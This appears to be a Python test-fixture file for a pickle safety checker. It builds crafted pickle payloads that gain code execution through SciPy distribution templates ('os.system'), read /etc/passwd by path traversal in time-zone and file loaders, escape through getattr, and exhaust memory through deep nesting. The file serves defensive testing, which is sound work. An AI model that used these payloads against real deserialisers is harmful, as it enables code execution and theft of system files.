"""Pickles that use allowed names with harmful arguments or states."""

from __future__ import annotations

import struct

from crafted_pickles import call, stack_global, text, touch, whole, whole_wrapper

EMPTY_ARGUMENTS = b")"
LIST = b"]"


def push_int(value: int) -> bytes:
    """Push a whole number."""
    return b"\x8a\x08" + struct.pack("<q", value)


def push_tuple(*parts: bytes) -> bytes:
    """Push a tuple."""
    return b"(" + b"".join(parts) + b"t"


def reduced(module: str, name: str, *arguments: bytes) -> bytes:
    """Push the result of a call with any values."""
    return stack_global(module, name) + push_tuple(*arguments) + b"R"


def built(made: bytes, **state: bytes) -> bytes:
    """Set the state of an object."""
    pairs = b"".join(text(key) + value for key, value in state.items())
    return made + b"}(" + pairs + b"ub"


def new(module: str, name: str) -> bytes:
    """Push a new object of a class."""
    return stack_global(module, name) + b")\x81"


def distribution(template: str, kind: str = "uniform_gen") -> bytes:
    """Build a distribution of SciPy, whose template SciPy executes."""
    return built(new("scipy.stats._continuous_distns", kind), _parse_arg_template=text(template))


TEMPLATE = (
    "\ndef _parse_args(self, {0} {1}):\n    return ({0}), loc, scale\n\n"
    "def _parse_args_rvs(self, {0} {1}, size=None):\n"
    "    return self._argcheck_rvs({0} loc, scale, size=size)\n\n"
    "def _parse_args_stats(self, {0} {1}, moments='mv'):\n    return ({0}), loc, scale, moments\n"
)
HONEST = TEMPLATE.format("a, b, ", "loc=0, scale=1")
RUN = "__import__('os').system('id')"
ARROW = text("large_string")


def arrow(length: int, offsets: int, offset: int = 0) -> bytes:
    """Restore an array of Arrow from buffers."""
    kind = reduced("pyarrow.lib", "type_for_alias", ARROW)
    parts = []
    for size in (offsets, 3):
        content = b"\x96" + struct.pack("<Q", size) + b"\0" * size
        parts.append(reduced("pyarrow.lib", "py_buffer", content))
    buffers = b"](N" + b"".join(parts) + b"e"
    numbers = push_int(length) + push_int(0) + push_int(offset)
    inner = push_tuple(kind, numbers, buffers, LIST, b"N")
    return reduced("pyarrow.lib", "_restore_array", inner)


def zone_of_pandas(zone: str) -> bytes:
    """Make a type of pandas with a time zone."""
    return reduced("pandas", "DatetimeTZDtype", text("ns"), text(zone))


PATHS = ("/etc/passwd", "../../etc/passwd", "a/../../etc/passwd", "a\0b", "", "x" * 5000, ":/etc/x")
ZONES = {
    f"{module}.{name} of {path[:12]!r}": whole(call(module, name, path))
    for path in PATHS
    for module, name in (
        ("zoneinfo", "ZoneInfo"),
        ("zoneinfo", "ZoneInfo._unpickle"),
        ("pytz", "_p"),
        ("pytz", "timezone"),
        ("dateutil.tz.tz", "tzfile"),
        ("dateutil.tz", "gettz"),
        ("dateutil.zoneinfo", "gettz"),
        ("dateutil.tz.tz", "tzical"),
    )
}
METHOD = reduced("builtins", "getattr", stack_global("zoneinfo", "ZoneInfo"), text("from_file"))
HARMFUL: dict[str, bytes] = {
    **ZONES,
    "zone by method": whole(
        reduced("builtins", "getattr", stack_global("zoneinfo", "ZoneInfo"), text("_unpickle"))
        + push_tuple(text("/etc/passwd"), b"K\1")
        + b"R"
    ),
    "zone from a file": whole(METHOD),
    "zone of pandas": whole(zone_of_pandas("dateutil//etc/passwd")),
    "zone of pandas above": whole(zone_of_pandas("dateutil/../../etc/passwd")),
    "zone of a new index": whole(
        stack_global("pandas", "DatetimeIndex"),
        push_tuple(LIST, b"N", text("dateutil//etc/passwd")),
        b"\x81",
    ),
    "zone of a new index by keyword": whole(
        stack_global("pandas", "DatetimeIndex"),
        b")}" + text("tz") + text("dateutil//etc/passwd") + b"s\x92",
    ),
    "zone of a new time": whole(
        stack_global("pandas", "Timestamp"),
        b")}" + text("tz") + text("dateutil//etc/passwd") + b"s\x92",
    ),
    "file of a new booster": whole(
        stack_global("lightgbm.basic", "Booster"), push_tuple(text("/etc/passwd")), b"\x81"
    ),
    "zone of an index": whole(
        reduced(
            "pandas.core.indexes.datetimes",
            "_new_DatetimeIndex",
            stack_global("pandas", "DatetimeIndex"),
            b"}" + text("tz") + text("dateutil//etc/passwd") + b"s",
        )
    ),
    "attribute of a class": whole(
        reduced("builtins", "getattr", stack_global("builtins", "dict"), text("__subclasses__"))
    ),
    "attribute of a module": whole(
        reduced("builtins", "getattr", stack_global("numpy", "ndarray"), text("tofile"))
    ),
    "attribute by a list": whole(
        stack_global("builtins", "getattr"), b"](", stack_global("numpy", "dtype"), text("x"), b"eR"
    ),
    "class with members": whole(call("builtins", "type", "x")),
    "distribution that runs": whole(distribution(RUN)),
    "distribution that runs after functions": whole(distribution(HONEST + RUN)),
    "distribution with a default": whole(
        distribution(TEMPLATE.format(f"a={RUN}, ", "loc=0, scale=1"))
    ),
    "distribution with a decorator": whole(distribution(HONEST.replace("\ndef", "\n@x\ndef", 1))),
    "distribution with a long template": whole(distribution(HONEST + "#" * 5000)),
    "distribution without a template": whole(
        built(new("scipy.stats._continuous_distns", "norm_gen"), a=b"K\1")
    ),
    "distribution with pairs": whole(
        new("scipy.stats._continuous_distns", "norm_gen"),
        push_tuple(push_tuple(text("_parse_arg_template"), text(RUN))),
        b"b",
    ),
    "distribution that runs the second time": whole(
        distribution(HONEST), b"}" + text("_parse_arg_template") + text(RUN) + b"sb"
    ),
    "vectorized function": whole(
        built(new("numpy", "vectorize"), pyfunc=stack_global("builtins", "getattr"))
    ),
    "partial of getattr": whole(
        reduced("functools", "partial", stack_global("builtins", "getattr"))
    ),
    "partial of a class": whole(reduced("functools", "partial", stack_global("pandas", "Series"))),
    "partial with another state": whole(
        reduced("functools", "partial", stack_global("numpy", "clip")),
        push_tuple(stack_global("builtins", "getattr"), EMPTY_ARGUMENTS, b"}", b"N"),
        b"b",
    ),
    "fraction with a power": whole(call("fractions", "Fraction", "1e999999999")),
    "pattern that prints": whole(reduced("re", "_compile", text("a"), push_int(128))),
    "pattern that is long": whole(reduced("re", "_compile", text("(" * 5000), push_int(0))),
    "array of a length": whole(reduced("array", "array", text("d"), push_int(1 << 40))),
    "path to open": whole(reduced("pathlib", "Path.read_text", text("/etc/passwd"))),
    "name space that is called": whole(call("types", "SimpleNamespace", "x")),
    "arrow beyond its buffers": whole(arrow(1 << 20, 24)),
    "arrow with an offset": whole(arrow(2, 24, offset=1 << 20)),
    "arrow with a negative length": whole(arrow(-1, 24)),
    "sparse index without a check": whole(
        reduced("pandas._libs.sparse", "IntIndex", push_int(1), LIST, LIST, b"\x89")
    ),
    "numpy memory map": whole(call("numpy", "memmap", "/etc/passwd")),
    "file of numpy": whole(call("numpy", "load", "/tmp/x")),
}

# Only the plain loader reads these, after the wrapper of an array of objects.
_OBJECTS = whole_wrapper("O8", (1,), padding=False, flags=63)
ASTRAY = {
    f"{name}, after a wrapper": _OBJECTS + HARMFUL[name][2:]
    for name in ("distribution that runs", "attribute by a list", "zone from a file")
}


def run_when_loaded(marker: str) -> bytes:
    """Execute a text by way of a distribution, to show that the attack is alive."""
    return whole(distribution(touch(marker)))


def levels(count: int, opening: bytes, closing: bytes) -> bytes:
    """Nest values."""
    return whole(opening * count, closing * count)


DEEP = {
    "lists": levels(50_000, b"]", b"").rstrip(b".") + b"a" * 49_999 + b".",
    "marked lists": levels(50_000, b"(", b"l"),
    "dicts": whole(b"}", b"}K\1" * 0, (b"}" + text("a")) * 30_000, b"}", b"s" * 30_000),
    "tuples and lists": whole(b"(" * 20_000, b"l\x85" * 20_000),
    "lists that grow from outside": whole(
        *(b"]" + b"r" + struct.pack("<I", n) + b"0" for n in range(5_000)),
        *(
            b"j" + struct.pack("<I", n) + b"j" + struct.pack("<I", n + 1) + b"a0"
            for n in range(4_999)
        ),
        b"j" + struct.pack("<I", 0),
    ),
    "sets": whole(b"(" * 5_000, b"\x91" * 5_000),
    "states": whole(
        *(new("argparse", "Namespace") + b"}" + text("a") for _ in range(3_000)),
        b"N",
        b"sb" * 3_000,
    ),
    "arguments": whole(
        *(stack_global("datetime", "timezone") for _ in range(3_000)), b")", b"R\x85" * 3_000
    ),
}
